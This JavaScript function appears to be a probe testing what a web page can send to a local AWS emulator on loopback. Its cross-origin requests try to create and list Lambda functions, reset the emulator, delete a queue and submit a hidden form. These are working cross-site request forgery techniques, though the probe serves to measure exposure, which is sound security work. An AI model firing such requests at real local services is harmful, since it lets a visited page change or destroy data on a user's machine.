// What a web page can send to a port of loopback. Each attempt gives what the page could read of the answer.
async ({ aws, credential }) => {
  const said = {};
  const attempt = async (name, send) => {
    try {
      said[name] = await send();
    } catch (error) {
      said[name] = `failed: ${error.name}`;
    }
  };
  const read = async (answer) => `${answer.status} ${await answer.text()}`;
  const json = (body) => JSON.stringify(body);
  const create = json({
    FunctionName: "planted", Runtime: "python3.13", Handler: "app.handler", Code: { ZipFile: "" },
    Role: "arn:aws:iam::111111111111:role/any",
  });
  const functions = `${aws}/2015-03-31/functions`;
  await attempt("create a function", async () =>
    read(await fetch(`${functions}?${credential}`, { method: "POST", body: create })));
  await attempt("create a function, unread", async () =>
    (await fetch(`${functions}?${credential}`, { method: "POST", body: create, mode: "no-cors" })).type);
  await attempt("list functions", async () => read(await fetch(`${functions}?${credential}`)));
  await attempt("a preflight", async () =>
    read(await fetch(aws, {
      method: "POST", body: "{}",
      headers: { Authorization: "AWS4-HMAC-SHA256 Credential=x", "X-Amz-Target": "AmazonSQS.ListQueues" },
    })));
  await attempt("reset", async () =>
    (await fetch(`${aws}/_ministack/reset`, { method: "POST", mode: "no-cors" })).type);
  await attempt("a beacon", async () => String(navigator.sendBeacon(`${aws}/_ministack/reset`)));
  await attempt("delete a queue", async () =>
    (await fetch(`${aws}/?Action=DeleteQueue&QueueUrl=${encodeURIComponent(`${aws}/111111111111/kept`)}&${credential}`,
      { mode: "no-cors" })).type);
  await attempt("a form", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { action: `${aws}/_ministack/reset`, method: "POST", target: "target", enctype: "text/plain" });
    document.body.append(form);
    frame.onload = () => done("sent");
    form.submit();
  }));
  await attempt("a picture", () => new Promise((done) => {
    const picture = new Image();
    picture.onload = () => done("read");
    picture.onerror = () => done("failed: picture");
    picture.src = `${functions}?${credential}`;
  }));
  await attempt("a script", () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("read");
    script.onerror = () => done("failed: script");
    script.src = `${functions}?${credential}`;
    document.body.append(script);
  }));
  await attempt("a WebSocket", () => new Promise((done) => {
    const socket = new WebSocket(aws.replace("http", "ws"));
    socket.onopen = () => done("read");
    socket.onerror = () => done("failed: WebSocket");
  }));
  return said;
}
